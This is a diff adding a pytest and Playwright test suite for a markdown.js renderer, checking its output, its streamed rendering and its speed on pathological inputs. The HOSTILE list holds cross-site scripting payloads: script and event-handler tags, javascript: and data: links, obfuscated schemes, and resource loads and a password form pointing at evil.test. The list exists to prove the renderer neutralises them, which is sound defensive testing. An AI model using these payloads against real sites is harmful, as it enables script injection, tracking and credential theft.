@@ -1,0 +1,252 @@
+"""markdown.js: what it makes of a text, that no text does harm, and that pieces make what the whole makes."""
+
+from __future__ import annotations
+
+import itertools
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from playwright.sync_api import Page
+
+# The container's HTML for a whole text; attributes that every link and block has are left out.
+RENDER = """async (text) => {
+    const { renderMarkdown } = await import("/markdown.js");
+    const main = document.createElement("main");
+    renderMarkdown(main, text);
+    for (const node of main.querySelectorAll("figcaption")) node.remove();
+    for (const node of main.querySelectorAll("*")) {
+        for (const name of node.getAttributeNames()) {
+            if (!["href", "title", "start", "style"].includes(name)) node.removeAttribute(name);
+        }
+    }
+    return main.innerHTML;
+}"""
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("a *b* **c** `e*f*`", "<p>a <em>b</em> <strong>c</strong> <code>e*f*</code></p>"),
+        ("***d*** **e *f***", "<p><em><strong>d</strong></em> <strong>e <em>f</em></strong></p>"),
+        ("snake_case_name 2*3*4 __x__", "<p>snake_case_name 2<em>3</em>4 <strong>x</strong></p>"),
+        ("~~gone~~ `` a`b `` \\*no\\*", "<p><del>gone</del> <code>a`b</code> *no*</p>"),
+        ("# One\n\nTwo\n===\n\n### Three ###", "<h3>One</h3><h3>Two</h3><h5>Three</h5>"),
+        ("a\nb  \nc\\\nd<br>e", "<p>a\nb<br>\nc<br>\nd<br>e</p>"),
+        ("- a\n- b\n  1. c\n  2. d", "<ul><li>a</li><li>b<ol><li>c</li><li>d</li></ol></li></ul>"),
+        ("3. a\n\n4. b", '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>'),
+        ("- [x] a\n- [ ] b", "<ul><li><span>☑</span> a</li><li><span>☐</span> b</li></ul>"),
+        ("> a\nb\n>\n> - c", "<blockquote><p>a\nb</p><ul><li>c</li></ul></blockquote>"),
+        (
+            "```\n<b>&amp;\n\n  x\n```\nafter",
+            "<figure><pre><code>&lt;b&gt;&amp;amp;\n\n  x</code></pre></figure><p>after</p>",
+        ),
+        ("```\nnot closed\n", "<figure><pre><code>not closed</code></pre></figure>"),
+        ("\tindented\n\n\tcode", "<figure><pre><code>indented\n\ncode</code></pre></figure>"),
+        ("* * *", "<hr>"),
+        ("&copy; &#65; &nosuch;", "<p>© A &amp;nosuch;</p>"),
+        ("<b>raw</b> <!-- no -->", "<p>&lt;b&gt;raw&lt;/b&gt; &lt;!-- no --&gt;</p>"),
+        ('[a *b*](http://h.org/x "t")', '<p><a href="http://h.org/x" title="t">a <em>b</em></a></p>'),
+        ("[a][r] [r]\n\n[r]: https://h.org/", '<p><a href="https://h.org/">a</a> <a href="https://h.org/">r</a></p>'),
+        ("![alt](https://h.org/i.png)", '<p><a href="https://h.org/i.png">alt</a></p>'),
+        (
+            "See https://h.org/a_b_c(d), www.h.org. or joe@h.org",
+            '<p>See <a href="https://h.org/a_b_c(d)">https://h.org/a_b_c(d)</a>, '
+            '<a href="https://www.h.org/">www.h.org</a>. or <a href="mailto:joe@h.org">joe@h.org</a></p>',
+        ),
+        ("[x](javascript:alert(1)) [y](/api)", "<p><span>x</span> <span>y</span></p>"),
+        (
+            "| a | b |\n|---|--:|\n| 1 \\| 2 | `c` |\n| 3 |",
+            "<div><table><thead><tr><th>a</th><th style=\"text-align: right;\">b</th></tr></thead><tbody>"
+            '<tr><td>1 | 2</td><td style="text-align: right;"><code>c</code></td></tr>'
+            '<tr><td>3</td><td style="text-align: right;"></td></tr></tbody></table></div>',
+        ),
+        ("a | b\nnot a table", "<p>a | b\nnot a table</p>"),
+    ],
+)  # fmt: skip
+def test_renders(blank: Page, text: str, html: str) -> None:
+    assert blank.evaluate(RENDER, text) == html
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a></svg>",
+    "<iframe src='javascript:alert(1)'></iframe><base href='http://evil.test/'>",
+    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
+    "<style>@import 'http://evil.test/x.css'; body { background: url(http://evil.test/y) }</style>",
+    "<form action='http://evil.test/'><input name=password autofocus></form>",
+    "<video autoplay src='http://evil.test/v'></video><picture><source srcset='http://evil.test/p'></picture>",
+    "<link rel=stylesheet href='http://evil.test/z.css'><object data='http://evil.test/o'></object>",
+    "![x](http://evil.test/track.png) ![y][r]\n\n[r]: http://evil.test/track2.png",
+    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java\tscript:alert(1))",
+    "[x](<java\nscript:alert(1)>) [x](<java\tscript:alert(1)>)",
+    "[x](&#106;avascript:alert(1)) [x](javascript&colon;alert(1)) [x](\x01javascript:alert(1))",
+    "[x](vbscript:x) [x](data:text/html,<script>alert(1)</script>) [x](file:///etc/passwd) [x](blob:x)",
+    "<javascript:alert(1)> <data:text/html,x> [x]: javascript:alert(1)\n\n[x]\n\n[x]: javascript:alert(1)",
+    '[x](http://h.org "\\" onmouseover=alert(1) x=\\"") [x](http://h.org/"onclick="alert(1))',
+    "```html\" onload=alert(1)\n<script>alert(1)</script>\n```",
+    "```<img/src=x/onerror=alert(1)>\ncode\n```",
+    "| <script>alert(1)</script> | ![x](http://evil.test/t) |\n|-|-|\n| <img src=x onerror=alert(1)> | x |",
+    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
+    "[![x](http://evil.test/i)](javascript:alert(1)) [<img src=x onerror=alert(1)>](http://h.org)",
+    "- [x] <input onfocus=alert(1) autofocus>\n- [ ] {{constructor.constructor('alert(1)')()}} ${alert(1)}",
+    "# <a id=location href=javascript:alert(1)>x</a>\n> <body onload=alert(1)>",
+]  # fmt: skip
+
+
+def test_hostile_text_does_nothing_but_stand_there(blank: Page) -> None:
+    requests: list[str] = []
+    dialogs: list[str] = []
+    blank.on("request", lambda request: requests.append(request.url))
+    blank.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))  # type: ignore[func-returns-value]
+    address = blank.url
+    found = blank.evaluate(
+        """async (texts) => {
+            const { MarkdownView } = await import("/markdown.js");
+            const main = document.querySelector("main");
+            for (const text of texts) for (const size of [1, 7, text.length]) {
+                const place = document.createElement("div");
+                main.append(place);
+                const view = new MarkdownView(place);
+                for (let at = 0; at < text.length; at += size) view.append(text.slice(at, at + size));
+                view.finish();
+            }
+            for (const node of main.querySelectorAll("*")) {
+                node.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
+            }
+            const nodes = [...main.querySelectorAll("*")];
+            const links = [...main.querySelectorAll("[href]")];
+            const attributes = nodes.flatMap((node) => node.getAttributeNames());
+            const result = {
+                tags: [...new Set(nodes.map((node) => node.localName))].sort(),
+                handlers: attributes.filter((name) => name.startsWith("on")),
+                ids: attributes.filter((name) => name === "id" || name === "name"),
+                schemes: [...new Set(links.map((node) => node.protocol))].sort(),
+                rels: [...new Set(links.map((node) => node.rel + " " + node.target))],
+            };
+            await new Promise((resolve) => setTimeout(resolve, 0));
+            await new Promise((resolve) => requestAnimationFrame(resolve));
+            main.replaceChildren();
+            return result;
+        }""",
+        HOSTILE,
+    )
+    text = {"p", "em", "strong", "del", "br", "a", "span", "code", "blockquote", "h3", "ul", "ol", "li"}
+    blocks = {"div", "figure", "figcaption", "pre", "button", "svg", "path"}
+    table = {"table", "thead", "tbody", "tr", "th", "td"}
+    assert set(found["tags"]) <= text | blocks | table
+    assert (found["handlers"], found["ids"]) == ([], [])
+    assert set(found["schemes"]) <= {"http:", "https:", "mailto:"}
+    assert found["rels"] == ["noopener noreferrer nofollow _blank"]
+    assert [url for url in requests if not url.startswith(address)] == []
+    assert dialogs == []
+    assert blank.url == address
+
+
+FRAGMENTS = st.sampled_from(
+    [
+        "# h\n", "text\n", "line two\n", "\n", "\n\n", "- a\n", "  - b\n", "1. x\n", "2) y\n", "> q\n",
+        "```py\n", "```\n", "~~~\n", "def f(x): # '''\n", '"""doc\n', "| a | b |\n", "|---|:-:|\n",
+        "| 1 | 2 |\n", "---\n", "===\n", "*em* **st** `c`\n", "**a *b* c**\n", "[l](http://h.org 't')\n",
+        "[r]\n", "[r]: http://h.org/ 'g'\n", "\tx\n", "a\\\nb\n", "- [ ] t\n", "  c\n", "    d\n", "\r\n",
+        "é😀\n", "![i](http://h.org/i)\n", "https://h.org/x.\n",
+        "&amp;", "<b>", "`", "*", "_", "~", "|", "-", "1", " ",
+    ]
+)  # fmt: skip
+TEXTS = st.lists(FRAGMENTS, max_size=14).map("".join)
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(text=TEXTS, cuts=st.lists(st.integers(0, 120), max_size=20))
+def test_any_cutting_gives_what_the_whole_text_gives(blank: Page, text: str, cuts: list[int]) -> None:
+    places = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
+    pieces = [text[start:end] for start, end in itertools.pairwise(places)]
+    whole, cut = blank.evaluate(
+        """async ([text, pieces]) => {
+            const { MarkdownView, renderMarkdown } = await import("/markdown.js");
+            const [whole, cut] = [document.createElement("div"), document.createElement("div")];
+            renderMarkdown(whole, text);
+            const view = new MarkdownView(cut);
+            for (const piece of pieces) view.append(piece);
+            view.finish();
+            return [whole.innerHTML, cut.innerHTML];
+        }""",
+        [text, pieces],
+    )
+    assert cut == whole
+
+
+def test_finished_blocks_are_not_touched_again(blank: Page) -> None:
+    same = blank.evaluate(
+        """async () => {
+            const { MarkdownView } = await import("/markdown.js");
+            const place = document.createElement("div");
+            const view = new MarkdownView(place);
+            view.append("one\\n\\n```js\\nlet a;\\nlet b;\\n");
+            const [first, code] = [place.children[0], place.children[1]];
+            const line = code.querySelector("code").firstChild;
+            view.append("let c;\\n```\\nthree\\n\\nfo");
+            view.append("ur");
+            view.finish();
+            return [place.children[0] === first, place.children[1] === code,
+                code.querySelector("code").firstChild === line, place.children.length];
+        }"""
+    )
+    assert same == [True, True, True, 4]
+
+
+def test_what_may_still_become_markup_is_held_back_until_it_is_known(blank: Page) -> None:
+    shown = blank.evaluate(
+        """async () => {
+            const { MarkdownView } = await import("/markdown.js");
+            const place = document.createElement("div");
+            const view = new MarkdownView(place);
+            const shown = [];
+            const pieces = ["Text\\n", "-", " item\\n\\n", "| a | b", " |\\n", "|--", "-|---|", "\\n| 1 |"];
+            for (const piece of pieces) {
+                view.append(piece);
+                const nodes = [...place.children];
+                shown.push(nodes.map((node) => node.localName + ":" + node.textContent).join(" "));
+            }
+            return shown;
+        }"""
+    )
+    item = "p:Text ul:item"
+    assert shown[:7] == ["p:Text", "p:Text", item, item, item, item, item]
+    assert shown[7].startswith("p:Text ul:item div:ab")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        ">" * 20_000,
+        "- " * 20_000,
+        "*a " * 20_000,
+        "*a_b" * 20_000,
+        "[" * 40_000,
+        "[a](" * 15_000,
+        "![" * 20_000 + "](u)" * 20_000,
+        "`" + "`a" * 20_000,
+        "a`" + "``b```c" * 8_000,
+        "<a:" * 20_000,
+        "a@" * 30_000,
+        "x" * 100_000,
+        "&a" * 30_000,
+        "|" * 20_000 + "\n" + "|-" * 20_000,
+        "[a]: <" * 10_000,
+        "```html\n" + '="' * 40_000,
+    ],
+    ids=lambda text: text[:6],
+)
+def test_a_text_made_to_be_slow_is_not(blank: Page, text: str) -> None:
+    milliseconds = blank.evaluate(
+        """async (text) => {
+            const { renderMarkdown } = await import("/markdown.js");
+            const start = performance.now();
+            renderMarkdown(document.createElement("div"), text);
+            return performance.now() - start;
+        }""",
+        text,
+    )
+    assert milliseconds < 30_000  # each takes about a tenth of a second; a reader with backtracking, minutes
